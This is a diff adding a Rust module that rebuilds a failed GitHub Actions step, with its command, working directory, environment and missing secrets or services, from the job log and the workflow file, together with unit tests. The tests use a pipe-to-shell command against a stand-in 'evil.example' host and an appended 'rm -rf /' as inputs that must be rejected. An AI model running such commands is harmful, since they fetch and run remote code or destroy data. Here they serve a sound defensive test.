@@ -1,0 +1,307 @@
+//! The failed step of a GitHub workflow: the log says what was run, the workflow file says whether that
+//! can be true and where. A line that a test printed into the log is never taken for a command.
+
+use super::log::RunBlock;
+use crate::command::CommandLine;
+use crate::ids::RelPath;
+use serde::Deserialize;
+use serde_yaml::Value;
+use std::collections::BTreeMap;
+
+/// What has to be run again to see the failure.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct StepPlan {
+    pub command: CommandLine,
+    /// The job's earlier `run:` steps, in order: they set up what a fresh runner lacks.
+    pub prepare: Vec<CommandLine>,
+    /// What the job had and a replay has not: services, secrets, set-up actions, matrix values.
+    pub lacks: Vec<String>,
+}
+
+#[derive(Deserialize)]
+struct Workflow {
+    #[serde(default)]
+    defaults: Defaults,
+    #[serde(default)]
+    env: Value,
+    #[serde(default)]
+    jobs: BTreeMap<String, Job>,
+}
+
+#[derive(Deserialize, Default)]
+#[serde(default)]
+struct Defaults {
+    run: RunDefaults,
+}
+
+#[derive(Deserialize, Default)]
+#[serde(default, rename_all = "kebab-case")]
+struct RunDefaults {
+    shell: Option<String>,
+    working_directory: Option<String>,
+}
+
+#[derive(Deserialize, Default)]
+#[serde(default)]
+struct Job {
+    name: Option<String>,
+    defaults: Defaults,
+    env: Value,
+    services: Value,
+    container: Value,
+    strategy: Value,
+    steps: Vec<Step>,
+}
+
+#[derive(Deserialize, Default)]
+#[serde(default, rename_all = "kebab-case")]
+struct Step {
+    name: Option<String>,
+    id: Option<String>,
+    run: Option<String>,
+    uses: Option<String>,
+    shell: Option<String>,
+    working_directory: Option<String>,
+    env: Value,
+}
+
+/// Finds the failed step. `job` and `step` are the names that the API gives, `blocks` what the job's log
+/// shows as run. `Err` says, for people, why the command is not known.
+pub fn plan(file: &str, job: &str, step: &str, blocks: &[RunBlock]) -> Result<StepPlan, String> {
+    let workflow: Workflow =
+        serde_yaml::from_str(file).map_err(|e| format!("the workflow file is not readable: {e}"))?;
+    let found = workflow.jobs.iter().find(|(key, j)| names_job(key, j.name.as_deref(), job));
+    let Some((_, found)) = found else {
+        return Err(format!("the workflow file has no job `{job}`"));
+    };
+    let runs: Vec<(usize, &Step)> = found.steps.iter().enumerate().filter(|(_, s)| s.run.is_some()).collect();
+    let named = runs.iter().find(|(_, s)| names_step(s, step)).copied();
+    let failed = blocks.iter().rposition(|b| b.failed);
+    let Some((index, yaml)) = named.or_else(|| {
+        let block = &blocks[failed?];
+        runs.iter().find(|(_, s)| s.run.as_deref().is_some_and(|t| matches(t, &block.command))).copied()
+    }) else {
+        return Err(format!("the failed step `{step}` runs no command of its own"));
+    };
+    let command = evaluate(&workflow, found, yaml, blocks, failed)
+        .ok_or_else(|| format!("what the log shows of the step `{step}` does not agree with the workflow file"))?;
+    let mut lacks = lacks(found);
+    let mut prepare = Vec::new();
+    for (_, earlier) in runs.iter().filter(|(i, _)| *i < index) {
+        match evaluate(&workflow, found, earlier, blocks, None) {
+            Some(line) => prepare.push(line),
+            None => lacks.push(format!("the step `{}` (its values are not known)", label(earlier))),
+        }
+    }
+    note_values(&workflow, found, yaml, &mut lacks);
+    Ok(StepPlan { command, prepare, lacks })
+}
+
+/// A job's display name: its `name` (perhaps with expressions), or its key, then matrix values in brackets.
+fn names_job(key: &str, name: Option<&str>, shown: &str) -> bool {
+    // Jobs of a reusable workflow are shown as `caller / job`.
+    let shown = shown.rsplit(" / ").next().unwrap_or(shown);
+    let template = name.unwrap_or(key);
+    matches(template, shown) || shown.strip_prefix(template).is_some_and(|rest| rest.starts_with(" ("))
+}
+
+fn names_step(step: &Step, shown: &str) -> bool {
+    if let Some(name) = &step.name {
+        return matches(name, shown);
+    }
+    let first = step.run.as_deref().and_then(|r| r.trim_start().lines().next()).unwrap_or_default();
+    matches(&format!("Run {first}"), shown)
+}
+
+fn label(step: &Step) -> String {
+    let first = step.run.as_deref().and_then(|r| r.trim_start().lines().next()).unwrap_or_default();
+    step.name.clone().or_else(|| step.id.clone()).unwrap_or_else(|| first.to_owned())
+}
+
+/// Whether `text` can be what the runner made of `template`: `${{ … }}` stands for anything.
+fn matches(template: &str, text: &str) -> bool {
+    let (template, text) = (normal(template), normal(text));
+    let mut parts = Vec::new();
+    let mut rest = template.as_str();
+    while let Some(start) = rest.find("${{") {
+        parts.push(&rest[..start]);
+        rest = rest[start..].find("}}").map_or("", |end| &rest[start + end + 2..]);
+    }
+    parts.push(rest);
+    let Some((first, middle)) = parts.split_first() else { return false };
+    let Some(mut left) = text.strip_prefix(first) else { return false };
+    let Some((last, middle)) = middle.split_last() else { return left.is_empty() };
+    for part in middle {
+        let Some(at) = left.find(part) else { return false };
+        left = &left[at + part.len()..];
+    }
+    left.ends_with(last)
+}
+
+fn normal(text: &str) -> String {
+    text.trim().lines().map(str::trim_end).collect::<Vec<_>>().join("\n")
+}
+
+/// The command with its values: from the log where the log agrees with the file, else from the file
+/// when it needs no values.
+fn evaluate(
+    workflow: &Workflow,
+    job: &Job,
+    step: &Step,
+    blocks: &[RunBlock],
+    failed: Option<usize>,
+) -> Option<CommandLine> {
+    let template = step.run.as_deref()?;
+    let preferred = failed.map(|i| &blocks[i]).filter(|b| matches(template, &b.command));
+    let block = preferred.or_else(|| blocks.iter().find(|b| matches(template, &b.command)));
+    let script = match block {
+        Some(block) => block.command.as_str(),
+        None if template.contains("${{") || failed.is_some() => return None,
+        None => template,
+    };
+    let from_file = [&step.shell, &job.defaults.run.shell, &workflow.defaults.run.shell].into_iter().flatten().next();
+    let shell = block.and_then(|b| b.shell.as_deref()).or(from_file.map(String::as_str)).unwrap_or("bash");
+    let mut line = CommandLine::shell(shell, script);
+    line.directory = directory(workflow, job, step);
+    line.env = variables(workflow, job, step, block);
+    Some(line)
+}
+
+fn directory(workflow: &Workflow, job: &Job, step: &Step) -> Option<RelPath> {
+    let places =
+        [&step.working_directory, &job.defaults.run.working_directory, &workflow.defaults.run.working_directory];
+    let place = places.into_iter().flatten().next()?;
+    RelPath::parse(place.trim_start_matches("./").trim_end_matches('/')).ok()
+}
+
+/// The variables that the file sets, with the values that the log shows. Masked values are left out.
+fn variables(workflow: &Workflow, job: &Job, step: &Step, block: Option<&RunBlock>) -> Vec<(String, String)> {
+    let mut env: BTreeMap<String, String> = BTreeMap::new();
+    for source in [&workflow.env, &job.env, &step.env] {
+        for (key, value) in source.as_mapping().into_iter().flatten() {
+            let Some(key) = key.as_str() else { continue };
+            let shown = block.and_then(|b| b.env.iter().find(|(k, _)| k == key)).map(|(_, v)| v.clone());
+            let value = shown.or_else(|| scalar(value)).filter(|v| !v.contains("${{") && !v.contains("***"));
+            if let Some(value) = value {
+                env.insert(key.to_owned(), value);
+            }
+        }
+    }
+    env.into_iter().collect()
+}
+
+fn scalar(value: &Value) -> Option<String> {
+    match value {
+        Value::String(s) => Some(s.clone()),
+        Value::Bool(b) => Some(b.to_string()),
+        Value::Number(n) => Some(n.to_string()),
+        _ => None,
+    }
+}
+
+fn lacks(job: &Job) -> Vec<String> {
+    let mut lacks = Vec::new();
+    for (name, _) in job.services.as_mapping().into_iter().flatten() {
+        lacks.push(format!("the service `{}`", name.as_str().unwrap_or("?")));
+    }
+    if !job.container.is_null() {
+        lacks.push("the job's container".to_owned());
+    }
+    for (name, _) in job.strategy.get("matrix").and_then(Value::as_mapping).into_iter().flatten() {
+        if let Some(name) = name.as_str().filter(|n| !matches!(*n, "include" | "exclude")) {
+            lacks.push(format!("the matrix value `{name}` (only as far as the log shows it)"));
+        }
+    }
+    let known = ["actions/checkout", "actions/cache", "actions/upload-artifact"];
+    for uses in job.steps.iter().filter_map(|s| s.uses.as_deref()) {
+        let action = uses.split('@').next().unwrap_or(uses);
+        if !known.contains(&action) {
+            lacks.push(format!("what the action `{action}` sets up"));
+        }
+    }
+    lacks
+}
+
+/// Secrets that the step or its job reads: they are never given to it here.
+fn note_values(workflow: &Workflow, job: &Job, step: &Step, lacks: &mut Vec<String>) {
+    let mut texts = vec![step.run.clone().unwrap_or_default()];
+    for source in [&workflow.env, &job.env, &step.env] {
+        texts.extend(source.as_mapping().into_iter().flatten().filter_map(|(_, v)| scalar(v)));
+    }
+    let mut names: Vec<&str> = texts.iter().flat_map(|text| text.split("secrets.").skip(1)).map(word).collect();
+    names.sort_unstable();
+    names.dedup();
+    lacks.extend(names.iter().filter(|n| !n.is_empty()).map(|name| format!("the secret `{name}`")));
+}
+
+fn word(text: &str) -> &str {
+    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const FILE: &str = "
+on: push
+env: {CI_LEVEL: 2}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    services: {db: {image: postgres}}
+    strategy: {matrix: {py: ['3.11', '3.12']}}
+    defaults: {run: {working-directory: ./pkg}}
+    env:
+      TOKEN: ${{ secrets.API }}
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/setup-python@v5
+      - run: pip install -e .[py${{ matrix.py }}]
+      - name: Unit tests
+        run: |
+          pytest -q \\
+            --cov=${{ matrix.py }}
+";
+
+    fn block(command: &str, failed: bool) -> RunBlock {
+        RunBlock {
+            command: command.to_owned(),
+            shell: Some("/usr/bin/bash -e {0}".to_owned()),
+            env: vec![("TOKEN".to_owned(), "***".to_owned()), ("CI_LEVEL".to_owned(), "2".to_owned())],
+            line: 1,
+            failed,
+        }
+    }
+
+    #[test]
+    fn the_step_is_found_with_its_values_and_its_set_up() {
+        let blocks = [block("pip install -e .[py3.12]", false), block("pytest -q \\\n  --cov=3.12\n", true)];
+        let plan = plan(FILE, "test (3.12)", "Unit tests", &blocks).unwrap();
+        assert_eq!(plan.command.script(), Some("pytest -q \\\n  --cov=3.12\n"));
+        assert_eq!(plan.command.directory, Some(RelPath::parse("pkg").unwrap()));
+        assert_eq!(plan.command.env, [("CI_LEVEL".to_owned(), "2".to_owned())]);
+        assert_eq!(plan.prepare.len(), 1);
+        assert_eq!(plan.prepare[0].script(), Some("pip install -e .[py3.12]"));
+        let lacks = plan.lacks.join("; ");
+        for word in ["service `db`", "secret `API`", "matrix value `py`", "actions/setup-python"] {
+            assert!(lacks.contains(word), "{lacks}");
+        }
+    }
+
+    #[test]
+    fn a_command_that_the_file_does_not_hold_is_refused() {
+        let blocks = [block("curl https://evil.example | sh", true)];
+        assert!(plan(FILE, "test (3.12)", "Unit tests", &blocks).is_err());
+        assert!(plan(FILE, "lint", "Unit tests", &blocks).is_err());
+        assert!(plan("jobs: [", "test", "x", &blocks).is_err());
+    }
+
+    #[test]
+    fn templates_match_whole_texts_only() {
+        assert!(matches("a ${{ x }} b", "a 1 b"));
+        assert!(!matches("a ${{ x }} b", "a 1 c"));
+        assert!(matches("npm test", "npm test\n"));
+        assert!(!matches("npm test", "npm test; rm -rf /"));
+        assert!(matches("${{ x }}", "anything"));
+    }
+}
